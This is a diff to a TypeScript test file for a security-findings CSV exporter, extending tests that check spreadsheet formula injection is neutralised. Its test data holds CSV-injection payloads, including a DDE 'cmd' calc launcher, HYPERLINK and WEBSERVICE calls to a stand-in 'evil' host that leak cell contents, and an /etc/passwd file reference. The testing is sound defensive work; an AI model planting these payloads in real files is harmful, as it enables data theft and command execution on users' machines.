@@ -10,6 +10,9 @@ async function text(stream: Readable): Promise<string> {
   return new TextDecoder('utf-8', { ignoreBOM: true }).decode(await buffer(stream));
 }
 
+/** The index of a column, by its header. */
+const column = (header: string) => CSV_COLUMNS.indexOf(header);
+
 function finding(overrides: Partial<ReportDocumentFinding>): ReportDocumentFinding {
   return { ...emptyFinding('A finding', 'high'), evidence: [], ...overrides };
 }
@@ -61,7 +64,7 @@ describe('reportFindingsCsv', () => {
     const rows = parseCsv(csv.slice(1));
     expect(rows[0]).toEqual([...CSV_COLUMNS]);
     expect(rows).toHaveLength(3);
-    expect(rows[1]!.slice(0, 9)).toEqual([
+    expect(rows[1]!.slice(0, 10)).toEqual([
       '1',
       'SQL injection, "login"',
       'high',
@@ -69,23 +72,43 @@ describe('reportFindingsCsv', () => {
       '3.1',
       'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H',
       '9.8',
+      '',
       'CVE-2021-44228\nCVE-2022-22965',
       'CWE-89',
     ]);
-    expect(rows[2]![9]).toBe('a.example\n10.0.0.5');
-    expect(rows[2]![10]).toBe('a.example:443/tcp https://a.example/x\n10.0.0.5');
-    expect(rows[2]![11]).toBe('line 1\nline 2');
-    expect(rows[1]![16]).toBe('11111111-1111-4111-8111-111111111111');
+    expect(rows[2]![column('Hosts')]).toBe('a.example\n10.0.0.5');
+    expect(rows[2]![column('Affected assets')]).toBe('a.example:443/tcp https://a.example/x\n10.0.0.5');
+    expect(rows[2]![column('Description')]).toBe('line 1\nline 2');
+    expect(rows[1]![column('Finding id')]).toBe('11111111-1111-4111-8111-111111111111');
   });
 
-  it.each(['=HYPERLINK("http://evil")', '+1+1', '-2+3', '@SUM(A1)', '\t=1', '\r=1'])(
-    'neutralises the formula %j',
-    async (evil) => {
-      expect(neutralizeFormula(evil)).toBe(`'${evil}`);
-      const csv = await text(reportFindingsCsv({ findings: [finding({ title: evil, description: evil })] }));
-      const rows = parseCsv(csv.slice(1));
-      expect(rows[1]![1]).toBe(`'${evil}`);
-      expect(rows[1]![11]).toBe(`'${evil}`);
+  it.each([
+    '=HYPERLINK("http://evil")',
+    '+1+1',
+    '-2+3',
+    '@SUM(A1)',
+    '\t=1',
+    '\r=1',
+    '-x',
+    "-2+3+cmd|' /C calc'!A0",
+    '- see =HYPERLINK("http://evil/?"&A1)',
+    '- item\n- =WEBSERVICE("http://evil")',
+    "+ 'file:///etc/passwd'#$Sheet1.A1",
+    '- other sheet: Sheet2!A1',
+  ])('neutralises the formula %j', async (evil) => {
+    expect(neutralizeFormula(evil)).toBe(`'${evil}`);
+    const csv = await text(reportFindingsCsv({ findings: [finding({ title: evil, description: evil })] }));
+    const rows = parseCsv(csv.slice(1));
+    expect(rows[1]![1]).toBe(`'${evil}`);
+    expect(rows[1]![column('Description')]).toBe(`'${evil}`);
+  });
+
+  it.each(['- item', '- first\n- second\n  - nested', '+ added in 2.0', '-5', '+3.5', '-1,234.5', '-2e3', '-12%'])(
+    'leaves the list or number %j as it is',
+    async (plain) => {
+      expect(neutralizeFormula(plain)).toBe(plain);
+      const csv = await text(reportFindingsCsv({ findings: [finding({ description: plain })] }));
+      expect(parseCsv(csv.slice(1))[1]![column('Description')]).toBe(plain);
     },
   );
 
